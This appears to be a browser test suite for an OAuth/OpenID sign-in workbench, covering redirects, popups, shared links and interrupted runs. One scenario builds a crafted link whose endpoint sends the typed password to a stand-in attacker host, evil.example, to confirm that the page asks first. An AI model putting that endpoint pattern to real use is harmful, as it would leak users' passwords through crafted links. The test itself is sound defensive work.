// @ts-check
/** While a run of the workbench is away: what may leave by it, what the tab brings back, and what the page does meanwhile. */

import assert from "node:assert/strict";
import { startFaulty } from "../servers/faulty.mjs";
import { benchSuite, SERVER } from "./lib/bench.mjs";
import { approve } from "./lib/redirect.mjs";

/** @typedef {import("./lib/bench.mjs").Bench} Bench */

const { scenario, world } = benchSuite({ start: startFaulty });
const faulty = () => /** @type {Awaited<ReturnType<typeof startFaulty>>} */ (/** @type {unknown} */ (world.server));
const user = () => /** @type {any} */ ({ user: world.server.user });

const AUTHORIZE = { authorize: { scope: "openid offline_access", params: { prompt: "consent" } } };
const DOCUMENT = { issuer: SERVER, clientId: "app", flows: { signin: [AUTHORIZE] } };
const OTHER = { url: `${SERVER}/token`, json: { other: "{{ inputs.email }}" } };

const draftOf = async (/** @type {Bench} */ bench) => JSON.parse(await bench.page.evaluate(() => window.workbench.editor.text()));

/** The link to a document. @param {Bench} bench @param {any} document */
const linkTo = (bench, document) =>
  bench.page.evaluate(async (document) => (await import(`${location.origin}/workbench/link.js`)).toHash(document), document);

/** Opens a link as a page of its own. @param {Bench} bench @param {any} document */
async function follow(bench, document) {
  const hash = await linkTo(bench, document);
  await bench.page.goto("about:blank");
  await bench.open(hash);
}

/** Runs, and waits for the server's page; gives its address. @param {Bench} bench */
async function leave(bench) {
  await bench.get("run").click();
  await bench.page.waitForURL(/\/interaction\//);
  return bench.page.url();
}

const said = (/** @type {Bench} */ bench, /** @type {RegExp} */ text) => bench.get("state").filter({ hasText: text }).waitFor();
const NO_ANSWER = /is here again without an answer/;

for (const mode of ["redirect", "popup"]) {
  scenario(`a flow that came by a link asks before it goes elsewhere with what was typed: ${mode}`, async (bench) => {
    const gone = /** @type {string[]} */ ([]);
    await bench.page.context().route("https://evil.example/**", (route) => {
      gone.push(route.request().url());
      return route.fulfill({ body: "<title>evil</title>", contentType: "text/html" });
    });
    const endpoint = "https://{{ 'evil' }}.example/?p={{ inputs.password }}";
    const document = { clientId: "app", flows: { signin: [{ authorize: { endpoint, mode, token: false } }] }, tokens: false };
    await bench.open();
    await follow(bench, document);
    await bench.get("input-inputs.password").fill("hush-hush-1843");
    await bench.get("run").click();
    await bench.get("whereto").filter({ hasText: "https://evil.example" }).waitFor();
    await said(bench, /Failed at authorize1.*came by a link/);
    assert.deepEqual(gone, []);
    assert.equal(bench.page.context().pages().length, 1, "no window stays");
    assert.deepEqual(await bench.axe(), []);
    const [left] = await Promise.all([mode === "popup" ? bench.page.waitForEvent("popup") : bench.page, bench.get("allow").click()]);
    await left.waitForURL(/^https:\/\/evil\.example\//);
    assert.match(gone[0], /p=hush-hush-1843/);

    // What a person has written goes where it says.
    gone.length = 0;
    await bench.open();
    await bench.example("Who am I");
    await bench.write(document, /No problem found/);
    await bench.get("way").selectOption("redirect");
    await bench.get("run").click();
    await bench.page.waitForURL(/^https:\/\/evil\.example\//);
  });
}

scenario("that it came by a link is known after the way there and back, and not asked at the embedded server", async (bench) => {
  await bench.open();
  await follow(bench, DOCUMENT);
  await leave(bench);
  await approve(bench.page, user());
  await said(bench, /It works/);
  const document = {
    ...DOCUMENT,
    issuer: undefined,
    flows: { signin: [{ authorize: { endpoint: "https://evil.example/", token: false } }] },
  };
  await bench.write(document, /No problem found/);
  await bench.get("run").click();
  await bench.get("whereto").filter({ hasText: "https://evil.example" }).waitFor();
  await bench.example("Who am I");
  assert.equal(await bench.get("whereto").isVisible(), false);
});

scenario("a return without an answer is told once; a link and a reload have what they say, and the answer may come yet", async (bench) => {
  await bench.open();
  const first = await draftOf(bench);
  await bench.write(DOCUMENT, /No problem found/);
  const provider = await leave(bench);
  await bench.open();
  await said(bench, NO_ANSWER);
  assert.deepEqual(await draftOf(bench), DOCUMENT);
  await bench.page.reload();
  await bench.ready();
  assert.deepEqual(await draftOf(bench), first);
  await bench.page.goto(provider);
  await approve(bench.page, user());
  await said(bench, /It works: 1 step/);
  assert.deepEqual(await draftOf(bench), DOCUMENT);
  assert.deepEqual(await bench.page.evaluate(() => Object.keys(sessionStorage)), []);
});

scenario("a link that is opened while a run is away shows its flow", async (bench) => {
  await bench.open();
  const hash = await linkTo(bench, OTHER);
  await bench.write(DOCUMENT, /No problem found/);
  await leave(bench);
  await bench.open(hash);
  assert.deepEqual(await draftOf(bench), OTHER);
  await said(bench, /Each step of a run will be listed here/);
});

scenario("a foreign query ends no sign-in that waits", async (bench) => {
  await bench.open();
  await bench.write(DOCUMENT, /No problem found/);
  const provider = await leave(bench);
  await bench.open("?utm_source=mail");
  await said(bench, NO_ANSWER);
  await bench.page.goto(provider);
  await approve(bench.page, user());
  await said(bench, /It works: 1 step/);
});

scenario("a load that is itself the answer goes on with the run", async (bench) => {
  faulty().change((answer, { path, url }) => {
    if (path !== "/broker") return;
    answer.status = 302;
    answer.headers.location = new URL(url).searchParams.get("redirect_uri") ?? "";
  });
  const authorize = { endpoint: `${SERVER}/broker`, bind: "tab", answer: [], pkce: false, token: false };
  const signin = [{ authorize }, { request: { url: `${SERVER}/guide/post`, json: {} } }];
  await bench.open();
  await bench.write({ clientId: "app", flows: { signin }, tokens: false }, /No problem found/);
  const ways = await bench.get("way").evaluate((list) => [...list.querySelectorAll("option:not([hidden])")].map((way) => way.textContent));
  assert.equal(ways.includes("in a window"), false, "there nobody would know whose answer it is");
  await bench.get("run").click();
  await said(bench, /It works: 2 steps/);
  assert.match((await (await bench.step("http1")).textContent()) ?? "", /request200/);
});

/** Runs in a window; gives that, once the server asks there. @param {Bench} bench */
async function opened(bench) {
  await bench.get("way").selectOption("popup");
  const [popup] = await Promise.all([bench.page.waitForEvent("popup"), bench.get("run").click()]);
  await popup.waitForURL(/\/interaction\//);
  return popup;
}

scenario("another draft in the place of what is run ends the run, and nothing is said of it there", async (bench) => {
  await bench.open();
  await bench.write(DOCUMENT, /No problem found/);
  const popup = await opened(bench);
  const closed = popup.waitForEvent("close");
  await bench.example("Who am I");
  await closed;
  await bench.page.waitForFunction(() => document.querySelector("#run")?.getAttribute("aria-busy") === "false");
  await said(bench, /^Each step of a run will be listed here\.$/);
  assert.equal(await bench.get("steps").locator("li").count(), 0);
  await bench.get("problems").filter({ hasText: "No problem found." }).waitFor();
});

scenario("what is written while a run goes on is not marked with what has failed, and it is said that it is another", async (bench) => {
  await bench.open();
  await bench.write(DOCUMENT, /No problem found/);
  const popup = await opened(bench);
  await bench.write(OTHER, /No problem found/);
  await popup.getByRole("button", { name: "Cancel" }).click();
  await said(bench, /Failed at authorize1: End-User aborted interaction.* The flow has changed since it was run\./);
  assert.equal(await bench.get("problems").textContent(), "No problem found.");
});

scenario("what is run is what is put down, also where something else is written meanwhile", async (bench) => {
  const document = { ...DOCUMENT, flows: { signin: [{ form: { fields: [{ name: "team" }] } }, AUTHORIZE] } };
  await bench.open();
  await bench.write(document, /No problem found/);
  /** @type {() => void} */
  let goOn = () => {};
  const held = new Promise((resolve) => {
    goOn = () => resolve(undefined);
  });
  const asked = bench.page.waitForRequest(/doorkey\.ui\.mjs/);
  await bench.page.route("**/doorkey.ui.mjs", async (route) => {
    await held;
    return route.continue();
  });
  await bench.get("ask").check();
  await bench.get("run").click();
  await asked;
  await bench.write(OTHER, /No problem found/);
  goOn();
  await bench.page.locator("doorkey-form input").fill("blue");
  await bench.page.keyboard.press("Enter");
  await bench.page.waitForURL(/\/interaction\//);
  await approve(bench.page, user());
  await said(bench, /It works: 2 steps/);
  assert.deepEqual(await draftOf(bench), document);
});

scenario("a run that can't begin is at its end", async (bench) => {
  await bench.open();
  await bench.write(DOCUMENT, /No problem found/);
  await bench.page.evaluate(() => {
    const { set } = Map.prototype;
    Map.prototype.set = function (key, value) {
      if (key === "workbench") throw new Error("no session today");
      return set.call(this, key, value);
    };
  });
  await bench.run(/no session today/);
  const state = await bench.get("state").textContent();
  await bench.page.evaluate(() => fetch("/config.json"));
  assert.equal(await bench.get("state").textContent(), state, "the page's requests are no more the run's");
});
